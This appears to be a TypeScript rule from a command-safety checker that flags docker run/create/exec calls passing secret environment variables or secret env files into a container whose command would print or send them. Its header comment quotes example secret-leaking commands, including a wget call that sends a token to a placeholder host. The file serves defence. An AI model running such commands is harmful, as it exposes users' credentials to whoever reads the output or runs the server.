/**
 * Secrets handed to a container (`-e TOKEN`, `-e TOKEN=$TOKEN`, `--env-file .env`) together with the command
 * it runs: the container is contained, but what its command does with those secrets is what it would do here.
 * A command that prints the environment or sends it out (`env`, `printenv TOKEN`, `sh -c 'echo $TOKEN'`,
 * `wget "http://x/?k=$TOKEN"`) hands the secret to whoever reads the output or runs the server.
 */
import type { Call } from '../call.js';
import { report } from '../context.js';
import { SECRET_VAR } from '../env-filter.js';
import { classifyPath, isSecretFileName } from '../paths.js';

/** `docker run` / `create` / `exec` options that take a value (so the value is not the image). */
const VALUE_OPTION =
  /^(?:-[ehlmpuvwac]|--(?:env|env-file|volume|mount|publish|name|workdir|user|network|net|entrypoint|label|label-file|cpus|cpu-shares|memory|memory-swap|platform|restart|hostname|add-host|device|cap-add|cap-drop|security-opt|log-driver|log-opt|ulimit|tmpfs|dns|dns-search|gpus|pull|shm-size|stop-signal|stop-timeout|health-cmd|health-interval|ipc|pid|runtime|attach|cidfile|expose|group-add|link|mac-address|ip|ip6|uts|userns|volumes-from|detach-keys|isolation|cgroupns|cgroup-parent|blkio-weight|storage-opt|sysctl|annotation|pod|arch|os|variant|secret|env-host|tz))$/;
/** What counts as the secret leaving: the environment printed or sent, a secret read, a network call. */
const LEAKS = /^(?:read\.env-secrets|read\.secret|net\.|exfil\.)/;

/**
 * Judges `<runtime> run|create|exec [options] image|container [command…]` (args after the verb): reports
 * when secrets are handed in and the command would print or send them.
 */
export function secretsIntoContainer(c: Call, afterVerb: readonly string[]): void {
  const handed: string[] = [];
  let i = 0;
  for (; i < afterVerb.length; i++) {
    const a = afterVerb[i] ?? '';
    if (!a.startsWith('-') || a === '--') break;
    const eq = /^(-e|--env|--env-file)=(.*)$/.exec(a);
    const option = eq ? eq[1] : a;
    const value = eq ? eq[2] : afterVerb[i + 1];
    if (!eq && VALUE_OPTION.test(a)) i++;
    if (value === undefined) continue;
    if ((option === '-e' || option === '--env') && SECRET_VAR.test(value.split('=')[0] ?? ''))
      handed.push(value.split('=')[0] ?? value);
    if (option === '--env-file') {
      const zone = classifyPath(value, { workspace: c.ctx.workspace, cwd: c.cwd }).zone;
      if (isSecretFileName(value.slice(value.lastIndexOf('/') + 1)) || zone === 'secret') handed.push(value);
    }
  }
  if (afterVerb[i] === '--') i++;
  const command = afterVerb.slice(i + 1);
  if (handed.length === 0 || command.length === 0) return;
  const leak = c.trial(command).find((f) => LEAKS.test(f.rule));
  if (leak)
    report(
      c.ctx,
      'read.env-secrets',
      `${c.name} hands ${handed.slice(0, 3).join(', ')} to a container whose command ${leak.detail}`.slice(
        0,
        160,
      ),
    );
}
